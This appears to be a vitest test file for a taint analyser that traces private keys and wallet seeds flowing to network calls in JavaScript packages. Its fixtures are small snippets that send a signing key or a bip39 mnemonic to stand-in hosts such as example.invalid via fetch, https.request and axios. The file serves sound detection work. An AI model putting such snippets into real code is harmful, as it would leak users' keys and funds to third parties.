import { expect, it } from 'vitest';
import { analyseSources } from '../testing/analyseSources.ts';

const PROGRAM = `const { sign } = require('@noble/secp256k1');
function post(text) { return fetch('https://example.invalid', { method: 'POST', body: text }); }
exports.sign = function signed(key, message) { post(key); return sign(message, key); };`;

/** Where flows of keys to the network end. */
async function ends(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { flows } = await analyseSources(files);
  return flows
    .filter(({ source, sink }) => source === 'key' && sink === 'network')
    .flatMap((flow) => flow.ends.map(({ site }) => `${site.file} ${site.within} ${site.code}`));
}

it('says where a flow ends by file and function', async () => {
  expect(await ends({ 'a.js': PROGRAM })).toEqual([expect.stringMatching(/^a\.js post [0-9a-f]{16}$/u)]);
});

it('tells every place in which one and the same flow ends', async () => {
  const second = PROGRAM.replace('post(key);', "post(key); fetch('https://example.invalid?' + key);");
  const found = await ends({ 'a.js': second });
  expect(found.map((one) => one.split(' ')[1])).toEqual(expect.arrayContaining(['post', 'signed']));
  expect(found).toHaveLength(2);
});

it('tells each of the sinks that one call may mean', async () => {
  const calls = "{ file: require('fs').appendFileSync, net: require('axios').post }";
  const text = PROGRAM.replace('fetch(', `(${calls})[message](`).replace("{ method: 'POST', body: text }", 'text');
  const { flows } = await analyseSources({ 'a.js': text });
  expect(flows.map(({ sink }) => sink)).toEqual(expect.arrayContaining(['network', 'later']));
});

it('knows what a function does again under other names, hosts and lines', async () => {
  const [before] = await ends({ 'a.js': PROGRAM });
  const renamed = PROGRAM.replaceAll('post', 'deliver')
    .replaceAll('text', 'given')
    .replace('example.invalid', 'e.invalid');
  const [after] = await ends({ 'lib/b.js': `// moved\n\n${renamed}` });
  expect(after).toMatch(/^lib\/b\.js deliver /u);
  expect(after?.split(' ').at(-1)).toBe(before?.split(' ').at(-1));
});

it('tells apart what functions do', async () => {
  const [before] = await ends({ 'a.js': PROGRAM });
  const [after] = await ends({ 'a.js': PROGRAM.replace("method: 'POST', body: text", "headers: { 'x-id': text }") });
  expect(after?.split(' ')[1]).toBe('post');
  expect(after).not.toBe(before);
});

it('tells apart which member a function reads, and not what else stands in its file', async () => {
  const sends = (member: string): string => PROGRAM.replace('body: text', `body: text.${member}`);
  const [before] = await ends({ 'a.js': sends('public') });
  const [after] = await ends({ 'a.js': sends('secret') });
  expect(after?.split(' ')[1]).toBe('post');
  expect(after).not.toBe(before);
  expect(await ends({ 'a.js': `const other = ['a', 'b'].length; exports.other = other;\n${sends('public')}` })).toEqual(
    [before],
  );
});

it('calls what runs in no function by its file alone', async () => {
  const [found] = await ends({
    'a.js': `const seed = require('bip39').generateMnemonic(); fetch('https://example.invalid/' + seed);`,
  });
  expect(found).toMatch(/^a\.js {2}[0-9a-f]{16}$/u);
});

it('tells no end of ends, and says that there are more', async () => {
  const letters = Array.from(
    { length: 80 },
    (_, index) => `n${String.fromCharCode(97 + (index % 26)).repeat(1 + index / 26)}`,
  );
  const text = letters
    .map(
      (one, at) => `exports.f${at} = (${one}_private_key) => { all.push(${one}_private_key); };
exports.g${at} = () => fetch('https://example.invalid', { method: 'POST', body: all });`,
    )
    .join('\n');
  const { flows, unread } = await analyseSources({ 'a.js': `const all = [];\n${text}` });
  expect(flows.reduce((sum, flow) => sum + flow.ends.length, 0)).toBeLessThanOrEqual(5000);
  expect(flows.length).toBeGreaterThan(40);
  expect(unread).toEqual([expect.stringContaining('too many ways through the package')]);
});

it.each([
  [`fetch('https://user:word@API.example.invalid:8443/x?y', { body: key })`, ['api.example.invalid']],
  [`fetch('//cdn.example.invalid', { body: key })`, ['cdn.example.invalid']],
  [`require('https').request({ host: 'a.example.invalid', headers: { 'x-id': key } })`, ['a.example.invalid']],
  [`fetch('https://192.0.2.7/' + key)`, ['192.0.2.7']],
  [
    `const out = require('https').request({ hostname: 'c.example.invalid', method: 'a.b' }); out.end(key)`,
    ['c.example.invalid'],
  ],
  [`require('axios').create({ baseURL: 'https://d.example.invalid' }).post('/x', key)`, ['d.example.invalid']],
  [`const base = 'https://b.example.invalid/' + message; fetch(base + '/send', { body: key })`, ['b.example.invalid']],
  [`fetch('https://192.0.2.7/', { body: key })`, ['192.0.2.7']],
  [`fetch('https://a.invalid/' + message, { body: key, b: '//b.invalid', c: '//c.invalid', d: '//d.invalid' })`, ['*']],
  [`fetch(address, { body: key, headers: { 'x-file': 'index.js', accept: 'application/vnd.api+json' } })`, []],
])('says which hosts a call is given as text: %s', async (send, expected) => {
  const text = `exports.sign = (key, message, address) => { require('@noble/secp256k1').sign(message, key); ${send}; };`;
  const { flows } = await analyseSources({ 'a.js': text });
  const found = flows.filter(({ source, sink }) => source === 'key' && sink === 'network').flatMap(({ ends }) => ends);
  expect(found).not.toEqual([]);
  for (const { site } of found) expect(site.hosts).toEqual(expected);
});
